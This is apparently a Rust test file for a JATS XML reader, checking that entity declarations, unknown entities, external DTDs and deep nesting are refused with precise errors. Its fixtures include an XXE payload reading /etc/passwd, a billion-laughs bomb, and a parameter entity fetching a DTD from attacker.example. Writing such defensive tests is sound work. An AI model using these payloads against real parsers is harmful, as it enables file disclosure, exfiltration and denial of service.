//! The reader resolves no entity: entity declarations (XXE, billion laughs) and unknown entity
//! references fail with a precise error, and nothing is ever fetched.

use galley::jats::{self, JatsError};

const XXE: &str = r#"<?xml version="1.0"?>
<!DOCTYPE article [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<article><front><article-meta><title-group><article-title>&xxe;</article-title></title-group></article-meta></front></article>
"#;

const BILLION_LAUGHS: &str = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<article>&lol9;</article>
"#;

const PARAMETER_XXE: &str = r#"<?xml version="1.0"?>
<!DOCTYPE article [
<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
%remote;
]>
<article/>
"#;

#[test]
fn xxe_is_refused_at_the_declaration() {
    let err = jats::read(XXE).expect_err("XXE must fail");
    assert!(
        matches!(&err, JatsError::EntityDeclaration { name, line: 3, column: 3 } if name == "xxe"),
        "{err:?}"
    );
    assert!(err.to_string().contains("declares entity `xxe`"), "{err}");
}

#[test]
fn billion_laughs_is_refused_before_any_expansion() {
    let err = jats::read(BILLION_LAUGHS).expect_err("billion laughs must fail");
    assert!(
        matches!(&err, JatsError::EntityDeclaration { name, line: 3, column: 2 } if name == "lol"),
        "{err:?}"
    );
}

#[test]
fn parameter_entities_are_refused_too() {
    let err = jats::read(PARAMETER_XXE).expect_err("parameter entity must fail");
    assert!(
        matches!(&err, JatsError::EntityDeclaration { name, line: 3, column: 1 } if name == "remote"),
        "{err:?}"
    );
}

#[test]
fn unknown_entities_are_errors_with_position() {
    let xml = "<article>\n  <body><p>a&nbsp;b</p></body>\n</article>";
    let err = jats::read(xml).expect_err("unknown entity must fail");
    assert!(
        matches!(&err, JatsError::UnknownEntity { name, line: 2, column: 13 } if name == "nbsp"),
        "{err:?}"
    );
    let in_attr = "<article xml:lang=\"&xxe;\"/>";
    let err = jats::read(in_attr).expect_err("unknown entity in attribute must fail");
    assert!(
        matches!(&err, JatsError::UnknownEntity { name, line: 1, column: 1 } if name == "xxe"),
        "{err:?}"
    );
}

#[test]
fn external_dtd_is_never_fetched() {
    // Only the five predefined entities and character references are resolved; the system
    // identifier is neither fetched nor read.
    let xml = "<!DOCTYPE article SYSTEM \"file:///etc/passwd\">\n<article xml:lang=\"en\"><front><article-meta><title-group><article-title>A &amp; B &#x4E2D;</article-title></title-group></article-meta></front></article>";
    let a = jats::read(xml).expect("reads");
    assert_eq!(a.title.as_deref(), Some("A & B 中"));
}

#[test]
fn malformed_xml_reports_line_and_column() {
    let err = jats::read("<article>\n<front>\n</article>").expect_err("mismatched");
    assert!(matches!(err, JatsError::Syntax { line: 3, .. }), "{err:?}");
    let err = jats::read("<article>&#1;</article>").expect_err("illegal char ref");
    assert!(matches!(err, JatsError::Syntax { line: 1, .. }), "{err:?}");
    let err = jats::read("<article>\u{1}</article>").expect_err("illegal char");
    assert!(
        matches!(&err, JatsError::Syntax { line: 1, column: 10, message } if message.contains("U+0001")),
        "{err:?}"
    );
}

#[test]
fn nesting_bomb_is_refused() {
    let xml = format!(
        "<article>{}{}</article>",
        "<p>".repeat(300),
        "</p>".repeat(300)
    );
    let err = jats::read(&xml).expect_err("too deep");
    assert!(
        matches!(err, JatsError::TooDeep { limit: 256, .. }),
        "{err:?}"
    );
}

#[test]
fn other_roots_are_not_jats() {
    let err = jats::read("<html/>").expect_err("not JATS");
    assert!(
        matches!(
            err,
            JatsError::NotJats {
                line: 1,
                column: 1,
                ..
            }
        ),
        "{err:?}"
    );
}
